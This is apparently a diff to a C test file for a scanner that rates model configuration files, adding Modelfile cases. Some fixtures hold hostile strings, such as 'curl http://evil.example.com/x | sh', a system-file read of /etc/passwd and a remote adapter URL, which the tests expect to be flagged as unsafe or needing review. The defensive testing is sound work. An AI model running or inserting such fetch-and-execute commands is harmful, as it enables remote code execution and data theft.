@@ -57,6 +57,14 @@ static void judged(void **state)
 		{ "tokenizer_config.json", "{\"vocab_file\": \"vocab.txt\", \"name_or_path\": \"/home/me/model\"}",
 		  GH_CLEAN, NULL },
 		{ "nemo.yaml", "tokenizer:\n  vocab_file: /data/v.txt\n", GH_CLEAN, NULL },
+		{ "Modelfile",
+		  "# c\nFROM ./m.gguf\nTEMPLATE \"\"\"{{ if .System }}<|s|>{{ .System }}{{ end }}\n\"\"\"\nPARAMETER "
+		  "stop "
+		  "\"<|e|>\"\nSYSTEM You help.\n",
+		  GH_CLEAN, NULL },
+		{ "Modelfile", "FROM /etc/passwd\nPARAMETER temperature 1\n", GH_UNSAFE, "GH-SET-0003" },
+		{ "Modelfile", "FROM x\nADAPTER http://evil.example.com/a.gguf\n", GH_REVIEW, "GH-SET-0004" },
+		{ "Modelfile", "FROM x\ncurl http://evil.example.com/x | sh\n", GH_UNSAFE, "GH-SRC-0106" },
 		{ "config.json",
 		  "{\"pretrained_cfg\": {\"url\": "
 		  "\"https://github.com/rwightman/pytorch-image-models/releases/download/v0.1/resnet50.pth\"}}",
